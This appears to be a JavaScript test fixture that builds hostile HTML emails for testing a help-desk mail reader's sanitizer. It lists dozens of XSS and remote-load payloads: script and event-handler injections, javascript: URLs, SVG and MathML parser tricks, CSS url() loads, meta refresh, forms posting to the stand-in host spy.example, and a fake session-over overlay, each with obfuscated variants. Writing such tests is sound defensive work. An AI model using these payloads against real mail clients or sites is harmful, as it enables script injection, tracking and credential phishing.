// Mails that want to run something, load something or send something, made for the test.
//
// What runs would say a number in the console; what loads or sends would ask spy.example.

const RUN = 'console.log(1871)'
const SPY = 'https://spy.example'

/** Ways in, as they are known from the trouble of other desks and mail readers. */
const WAYS = [
  `<script>${RUN}</script>`,
  `<script src="${SPY}/a.js"></script>`,
  `<script type="module">import '${SPY}/m.js'</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script/x>${RUN}</script >`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}" onload="${RUN}">`,
  `<img src="${SPY}/p.gif" width=1 height=1>`,
  `<img src="//spy.example/p.gif">`,
  `<img src=x srcset="${SPY}/p.gif 1x, ${SPY}/q.gif 2x">`,
  `<picture><source srcset="${SPY}/s.webp"><img alt=x></picture>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  `<img lowsrc="${SPY}/l.gif" dynsrc="${SPY}/d.gif">`,
  `<input type=image src="${SPY}/i.gif" onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}>x</textarea>`,
  `<button autofocus onfocus=${RUN} formaction="javascript:${RUN}">Go</button>`,
  `<details open ontoggle=${RUN}><summary>More</summary>x</details>`,
  `<body onload=${RUN} background="${SPY}/b.png">`,
  `<svg onload=${RUN}></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="${SPY}/s.js"/></svg>`,
  `<svg><image href="${SPY}/i.png" xlink:href="${SPY}/j.png"/></svg>`,
  `<svg><use href="${SPY}/u.svg#x"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>Press</text></a></svg>`,
  `<svg><animate attributeName=href values="javascript:${RUN}" onbegin=${RUN} /></svg>`,
  `<svg><foreignObject><iframe src="${SPY}"></iframe></foreignObject></svg>`,
  `<svg><style>@import '${SPY}/s.css';</style></svg>`,
  `<math href="javascript:${RUN}">Press</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<iframe src="${SPY}"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<frameset><frame src="${SPY}"></frameset>`,
  `<object data="${SPY}/o.swf"></object>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="${SPY}/e.swf">`,
  `<applet code="${SPY}/A.class"></applet>`,
  `<audio src="${SPY}/a.mp3" autoplay onerror=${RUN}></audio>`,
  `<video poster="${SPY}/v.png" src="${SPY}/v.mp4" autoplay></video>`,
  `<video><source src="${SPY}/v.mp4" onerror=${RUN}></video>`,
  `<track src="${SPY}/t.vtt">`,
  `<link rel=stylesheet href="${SPY}/s.css">`,
  `<link rel=preload as=image href="${SPY}/p.png">`,
  `<link rel=dns-prefetch href="//spy.example"><link rel=preconnect href="${SPY}">`,
  `<link rel=icon href="${SPY}/f.ico">`,
  `<link rel=manifest href="${SPY}/m.json">`,
  `<style>body{background:url(${SPY}/b.png)}</style>`,
  `<style>@import url(${SPY}/s.css);</style>`,
  `<style>@font-face{font-family:x;src:url(${SPY}/f.woff)}p{font-family:x}</style><p>x</p>`,
  `<p style="background:url('${SPY}/b.png')">x</p>`,
  `<p style="background-image:\\75 rl(${SPY}/b.png)">x</p>`,
  `<p style="list-style:url(//spy.example/l.png);cursor:url(${SPY}/c.cur),auto">x</p>`,
  `<p style="width:expression(${RUN});behavior:url(${SPY}/x.htc);-moz-binding:url(${SPY}/x.xml)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999;background-color:#fff">Your session is over</p>`,
  `<table background="${SPY}/t.png"><td background="${SPY}/d.png">x</table>`,
  `<meta http-equiv=refresh content="0;url=${SPY}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=set-cookie content="a=1">`,
  `<base href="${SPY}/"><img src=p.gif><a href=x>x</a>`,
  `<form action="${SPY}" method=post id=f><input name=p value=1><button>Go</button></form>`,
  `<form id=f action="${SPY}"></form><button form=f autofocus>Go</button>`,
  `<isindex action="javascript:${RUN}" type=image>`,
  `<a href="javascript:${RUN}">Press</a>`,
  `<a href=" java&#x0A;script:${RUN}">Press</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">Press</a>`,
  `<a href="vbscript:${RUN}">Press</a>`,
  `<a href="x" ping="${SPY}/ping">Press</a>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><script>${RUN}</script></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<title><a title="</title><img src=x onerror=${RUN}>"></title>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="${SPY}/s.xsl"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `<p onclick=${RUN} onmouseover=${RUN} onpointerenter=${RUN} onfocus=${RUN} tabindex=0 autofocus>x</p>`,
  `<p contenteditable onanimationstart=${RUN} style="animation:x 1s">x</p>`,
]

const wild = (html) => html.replace(/<(\/?)([a-z]+)/gi, (_, slash, name) => `<${slash}${[...name].map((letter, n) => (n % 2 ? letter.toUpperCase() : letter)).join('')}`)

/** The same way in, written so that a careless reader misses it. */
const DISGUISES = [
  (html) => html,
  (html) => wild(html).replace(/ (on\w+)=/g, '\n$1 =\t'),
  (html) => `<table><p><svg><desc><b>${html}</b></desc></svg></p></table><plaintext>${html}`,
]

/** `[{ name, mail }]`: each is one mail with its way in as HTML. */
export function hostileMails() {
  return WAYS.flatMap((way, n) =>
    DISGUISES.map((disguise, m) => {
      const name = `hostile-${n}-${m}`
      const body = Buffer.from(`<html><body><p>Where is my parcel?</p>${disguise(way)}</body></html>`)
      const lines = body.toString('base64').replace(/.{76}/g, '$&\r\n')
      const head = [
        `From: Mallory <${name}@customer.example>`,
        'To: desk@baton.example',
        `Subject: ${name}`,
        `Message-ID: <${name}@customer.example>`,
        'Date: Mon, 23 Nov 2026 09:00:00 +0000',
        'MIME-Version: 1.0',
        'Content-Type: text/html; charset=utf-8',
        'Content-Transfer-Encoding: base64',
      ]
      return { name, mail: `${head.join('\r\n')}\r\n\r\n${lines}\r\n` }
    }),
  )
}
